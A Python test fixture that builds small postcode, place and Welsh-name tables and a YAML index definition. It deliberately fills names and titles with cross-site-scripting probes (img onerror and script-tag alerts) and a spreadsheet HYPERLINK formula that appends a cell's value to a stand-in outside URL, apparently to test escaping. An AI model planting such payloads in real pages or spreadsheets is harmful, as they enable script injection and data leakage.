"""Tables that tests make up: postcodes, places and Welsh names of England, and a site of script."""

from __future__ import annotations

from pathlib import Path

import polars as pl

IMAGE = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
SCRIPT = "</script><script>alert(2)</script>"
BRACES = "{@html 1+1} ${alert(3)} 'a' \"b\" & <b>"
NAMES = [IMAGE, FORMULA, SCRIPT, BRACES, "+44 -1", "Tŷ Bach"]
CODES = [f"E0100000{place}" for place in range(1, 7)]
LIVE, ENDED, ELSEWHERE, UNKNOWN = "TS24 0AB", "TS24 0AD", "LL18 1AA", "TS24 9ZZ"
HARTLEPOOL = "E01011950"
TERMINATED_HERE = "TS24 0AE"
"""A postcode that ended and lay in an area of the index."""

DEFINITION = """\
hyperlocal: 1
id: odd
title: An <b>odd</b> index
description: "<script>alert(4)</script> & so on"
publisher: "<i>Nobody</i> & Co"
areas:
  geography: lsoa21
  table: {input: people}
  names: {input: people, column: name}
populations:
  residents: {input: people, column: adults}
inputs:
  people: {file: people.csv, geography: lsoa21, code: area}
defaults: {input: people, high_value: more_need}
index:
  domains:
    work:
      title: "Work <u>now</u>"
      indicators:
        out_of_work: {numerator: out_of_work, denominator: adults, per: 100}
    money:
      indicators:
        income: {column: income, high_value: less_need}
"""


def england_files() -> dict[str, pl.DataFrame]:
    """Return a small directory of postcodes, places and Welsh names of England, by file name."""
    postcodes = pl.DataFrame(
        {
            "pcds": [LIVE, "ME5 8AA", "TS24 0AF", ENDED, TERMINATED_HERE, ELSEWHERE],
            "doterm": ["", "", "", "201907", "200001", ""],
            "lsoa21": [HARTLEPOOL, "E01016028", HARTLEPOOL, "W01001958", "E01011951", "W01001958"],
        }
    )
    places = pl.DataFrame(
        {
            "name": ["Seaton Carew", "Ambleside", IMAGE],
            "longitude": [-1.188, -2.962, -5.567],
            "latitude": [54.661, 54.432, 50.191],
            "kind": ["village", "town", IMAGE],
        }
    )
    welsh = pl.DataFrame(
        {
            "code": [HARTLEPOOL, "E06000001", "income", "iod_2025_domains"],
            "name_cy": ["Hartlepool Un", "Hartlepwl", "Incwm", "Mynegeion Amddifadedd Lloegr 2025"],
        }
    )
    return {"postcodes.csv": postcodes, "places.csv": places, "welsh.csv": welsh}


def write(folder: Path) -> None:
    """Write the definition and the tables of the site of script."""
    (folder / "index.yaml").write_text(DEFINITION, encoding="utf-8")
    tables = {
        "people.csv": {
            "area": CODES,
            "name": NAMES,
            "out_of_work": [12, 30, 45, 3, 9, 64],
            "adults": [300, 310, 290, 150, 280, 400],
            "income": [25000, 21000, 18000, 32000, 29000, 15500],
        },
        "districts.csv": {
            "lsoa21_code": CODES,
            "lsoa21_name": NAMES,
            "ltla24_code": ["E06000001"] * 3 + ["E06000002"] * 3,
            "ltla24_name": [IMAGE + " district"] * 3 + [FORMULA] * 3,
        },
        "postcodes.csv": {
            "pcds": ["TS24 0AB", "TS24 0AD"],
            "doterm": ["", ""],
            "lsoa21": CODES[:2],
        },
        "welsh.csv": {"code": ["E01000006"], "name_cy": ["<img src=y onerror=alert(5)>"]},
    }
    for name, columns in tables.items():
        pl.DataFrame(columns).write_csv(folder / name)
